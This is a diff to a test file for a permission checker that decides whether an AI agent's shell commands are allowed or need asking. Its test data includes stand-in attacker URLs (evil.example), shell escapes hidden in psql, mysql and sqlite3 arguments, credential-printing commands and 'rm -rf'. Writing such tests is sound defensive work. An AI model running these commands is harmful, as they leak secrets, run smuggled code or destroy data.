@@ -3,21 +3,24 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { decideIn, type World } from '../decide/world.js';
 
-const decisionOf = (world: World, line: string) => decideIn(world, 'Bash', line).decision;
+/** Settings of the project from which programs take what they do. */
+const SETTINGS = ['.npmrc', 'bunfig.toml', 'rust-toolchain', 'rust-toolchain.toml'] as const;
+
+const decisionOf = (world: World, line: string) => decideIn({ missing: SETTINGS, ...world }, 'Bash', line).decision;
 
 /** What only tells something, with no way for the project to have a word in it. */
 const TOLD = `
-node --version; node -v; node --help; npm --version; npm -v; npm install --help; npx --version; npm ls; npm ls --depth=0; npm root; npm explain x
+node --version; node -v; node --help; npm --version; npm -v; npm install --help; npx --version; npm run; npm run-script; npm ls; npm ls --depth=0; npm root; npm explain x
 npm pkg get scripts; npm query .x; bun --version; bun pm ls; corepack --version; deno --version; deno run --help; tsc --version; eslint --version
 prettier --version; vitest --version; biome --version; biome check src; biome lint src; biome explain x; python3 --version; python -V; pip --version
 pip list; pip show x; pip check; pip install --help; uv --version; uvx --version; pipx --version; mypy --version; black --version; ruff --version
-ruff rule E501; rustup --help; gofmt -l .; gofmt -d a.go; make --version; cmake --version; ctest --version; ninja --version; java -version
+ruff rule E501; rustup --help; cargo --version; cargo -V; rustc --version; gofmt -l .; gofmt -d a.go; make --version; cmake --version; ctest --version; ninja --version; java -version
 javac -version; dotnet --list-sdks; ruby --version; gem --version; gem list; php --version; php -m; docker --version; docker run --help
 docker compose up --help; podman --version; kubectl --help; kubectl get --help; helm install --help; terraform version; terraform plan -help
-tofu version; aws --version; gcloud --version; gcloud version; az --version; psql --version; mysql --version; sqlite3 --version
+tofu version; aws --version; gcloud --version; gcloud version; gcloud info; psql --version; mysql --version; sqlite3 --version
 redis-cli --version; mongosh --version; systemctl --version; systemctl is-active x; systemctl list-units; journalctl --version
 apt list --installed; apt show x; apt-cache policy x; dpkg -l; dpkg -s x; dpkg-query -W x; rpm --version; rpm -qa; dnf --version; pacman -Q
-brew --version; brew list
+brew --version; brew list; brew list --versions python@3.12; brew leaves
 `;
 
 /** What runs code of the project or of a package, changes something, talks to others or shows secrets. */
@@ -34,7 +37,7 @@ biome check --config-path=/tmp; biome ci --changed; jest; jest --version; jest -
 python3 -; python3 --version a.py; pip install x; pip download x; pip wheel .; pip uninstall x; pip config list; pip freeze; pip cache purge
 pip list --python ./x; pip list -o; pip --python ./x list; uv run x; uv sync; uv pip list; uv add x; uv tree; uv tool install x; uvx x; pipx run x; pipx list
 poetry install; poetry run x; poetry --version; poetry show; pytest; pytest --version; pytest --help; pytest -p x; mypy .; black .; ruff check; ruff format
-cargo build; cargo test; cargo run; cargo --version; cargo tree; cargo metadata; cargo x; cargo publish; rustc a.rs; rustc --version; rustup --version
+cargo build; cargo test; cargo run; cargo --version x; cargo tree; cargo metadata; cargo x; cargo publish; rustc a.rs; rustup --version
 rustup update; rustup run x y; rustfmt --version; go build; go test; go run .; go version; go env; go env -w A=b; go list; go vet; go generate; go mod tidy
 gofmt -w .; make; make -n; make test; make -f x; cmake .; cmake --build x; cmake -E rm x; cmake -P x; ctest; ninja; gradle build; gradle --version
 mvn test; mvn --version; java -jar a.jar; java Main; java @x; javac A.java; dotnet build; dotnet --version; dotnet a.dll; ruby a.rb; ruby -e 1; gem install x
@@ -51,6 +54,9 @@ mongosh --eval 1; pg_dump x; ansible all -m ping; ansible --version; ansible-pla
 systemctl edit x; systemctl -H x is-active y; journalctl; journalctl --vacuum-size=1; apt install x; apt update; apt -o x=y list; apt-get remove x
 dpkg -i x.deb; dpkg -P x; dpkg --pre-invoke=x -l; rpm -i x; rpm -e x; rpm --eval '%(id)'; rpm -qa --pipe sh; dnf install x; dnf list; pacman -S x
 pacman -R x; brew install x; brew services list; brew info x; brew x
+brew list ./evil.rb; brew ls evil/tap/x; brew list https://evil.example/x.rb; brew list --versions a.rb/b; helm lint .; helm lint -f https://evil.example/x chart
+helm lint chart; az --version; az version; az version --query @/etc/hosts; az group list --help; gcloud info --run-diagnostics; gcloud info --show-log
+npm run x --help y; npm run --frob; npm run build --; cat https://evil.example/x; git shortlog --group=format:%GS HEAD
 `;
 
 /** A rule, and a call that its `*` stands for. */
@@ -152,6 +158,13 @@ const UNNAMED = [
   ['gcloud *', 'gcloud auth print-access-token'],
   ['az *', 'az account get-access-token'],
   ['psql *', "psql -c 'drop table x'"],
+  ['psql -c *', "psql -c '\\! id'"],
+  ['psql -c *', 'psql -c "\\\\copy t to program \'id\'" app'],
+  ['psql --command *', "psql --command ' \\! id'"],
+  ['mysql -e *', "mysql -e '\\! id'"],
+  ['mysql -e *', "mysql -e 'system id'"],
+  ['mysql -e *', "mysql -e 'select 1\nSource x'"],
+  ['git merge -s *', 'git merge --no-edit -s zz feat'],
   ['sqlite3 *', "sqlite3 a.db '.shell id'"],
   ['redis-cli *', 'redis-cli flushall'],
   ['ansible *', "ansible all -a 'rm -rf /srv'"],
@@ -182,6 +195,27 @@ for (const [rule, line] of NAMED)
 for (const [rule, line] of UNNAMED)
   test(`${rule} does not stand for: ${line}`, () =>
     assert.is.not(decisionOf({ preset: 'safe', allow: [`Bash(${rule})`] }, line), 'allow'));
+
+/** What a file of the project makes of a call that only tells: npm asks the registry of .npmrc, rustup runs the compiler of a folder. */
+for (const [line, file] of [
+  ['npm ls', '.npmrc'],
+  ['cd packages/a && npm explain x', '.npmrc'],
+  ['npm root', '.npmrc'],
+  ['npm run', '.npmrc'],
+  ['npm pkg get name', '.npmrc'],
+  ["npm query ':root > *'", '.npmrc'],
+  ['bun pm ls', 'bunfig.toml'],
+  ['cargo --version', 'rust-toolchain.toml'],
+  ['rustc -V', 'rust-toolchain'],
+] as const)
+  test(`asks where the project has ${file}: ${line}`, () => {
+    const world = { preset: 'safe', missing: SETTINGS.filter((name) => name !== file) } as const;
+    assert.is(decisionOf(world, line), 'ask');
+    assert.is(
+      decisionOf({ ...world, allow: ['Bash(npm *)', 'Bash(npm run)', 'Bash(bun pm *)', 'Bash(cargo *)', 'Bash(rustc *)'] }, line),
+      'allow',
+    );
+  });
 
 test('a variable that node or a shell reads is not excused by a call that only tells', () => {
   for (const line of [
